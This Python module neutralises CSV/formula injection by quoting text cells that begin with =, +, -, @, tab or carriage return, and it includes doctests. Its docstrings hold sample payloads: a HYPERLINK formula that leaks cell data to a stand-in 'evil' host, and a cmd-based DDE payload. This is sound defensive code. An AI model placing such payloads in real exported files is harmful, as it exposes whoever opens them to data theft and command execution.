"""CSV cells that a spreadsheet never runs as a formula (CSV injection), and reading them back.

Excel, LibreOffice and Google Sheets run a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and a
tab or carriage return before them is skipped), so a project name or a note typed as
``=HYPERLINK("http://evil"&A1,"click")`` would run on the computer of whoever opens the download. Following the
OWASP rule, every *text* cell that begins with one of those characters is written with a single quote before it,
which spreadsheets show as text. Numbers are written as they are: only text is neutralised, so -5 in a number column
stays -5. Every CSV that renkei writes goes through :func:`csv_cell` (or :func:`neutralise` for a column known to
hold text) and :func:`csv_writer`; a reader of a sheet renkei wrote takes the quote off again with :func:`restore`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

#: The first characters that make a spreadsheet read a cell as a formula (OWASP: CSV Injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: What goes before such a cell.
QUOTE = "'"
#: Cells written as they are although they begin with a formula character: a lone 「-」 (renkei's "no rating" and
#: "nothing stated" mark) is text to every spreadsheet and runs nothing.
PLAIN = frozenset({"-"})


def neutralise(text: str) -> str:
    """Return text that a spreadsheet shows as written: a single quote before a formula's first character.

    >>> neutralise('=HYPERLINK("http://evil"&A1,"click")')
    '\\'=HYPERLINK("http://evil"&A1,"click")'
    >>> [neutralise(t) for t in ("@SUM(1+1)", "+81 93", "-5", "\\t=1", "北九州市", "", "a=b", "-", "--")]
    ["'@SUM(1+1)", "'+81 93", "'-5", "'\\t=1", '北九州市', '', 'a=b', '-', "'--"]
    """
    return QUOTE + text if text.startswith(FORMULA_STARTS) and text not in PLAIN else text


def csv_cell(value: object) -> object:
    """Return a value for a CSV cell: text neutralised, numbers as they are, None as an empty cell.

    >>> csv_cell("=1+1"), csv_cell(-5), csv_cell(-2.5), csv_cell(None), csv_cell(True)
    ("'=1+1", -5, -2.5, '', True)
    """
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return value
    return neutralise(str(value))


def restore(text: str) -> str:
    """Take off the quote :func:`neutralise` put before a formula's first character (reading a sheet back).

    >>> restore("'=SUM(A1)"), restore("'-5"), restore("'quoted'"), restore("=1")
    ('=SUM(A1)', '-5', "'quoted'", '=1')
    """
    if text.startswith(QUOTE) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class _RowWriter(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`csv_cell` (the header too)."""

    def __init__(self, writer: _RowWriter) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row, each cell neutralised."""
        self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write rows, each cell neutralised."""
        for row in rows:
            self.writerow(row)


def csv_writer(buffer: Any, *, lineterminator: str = "\r\n") -> SafeWriter:
    """Return a CSV writer over a text buffer that neutralises every text cell.

    >>> import io
    >>> out = io.StringIO()
    >>> csv_writer(out).writerow(["=cmd|' /C calc'!A0", -5, None, "ok"])
    >>> out.getvalue()
    "'=cmd|' /C calc'!A0,-5,,ok\\r\\n"
    """
    return SafeWriter(csv.writer(buffer, lineterminator=lineterminator))


def neutralise_record(record: dict[str, object]) -> dict[str, object]:
    """Return a record (for ``csv.DictWriter``) with every value through :func:`csv_cell`.

    >>> neutralise_record({"reason": "@SUM(1+1)", "id": 3, "field": None})
    {'reason': "'@SUM(1+1)", 'id': 3, 'field': ''}
    """
    return {key: csv_cell(value) for key, value in record.items()}
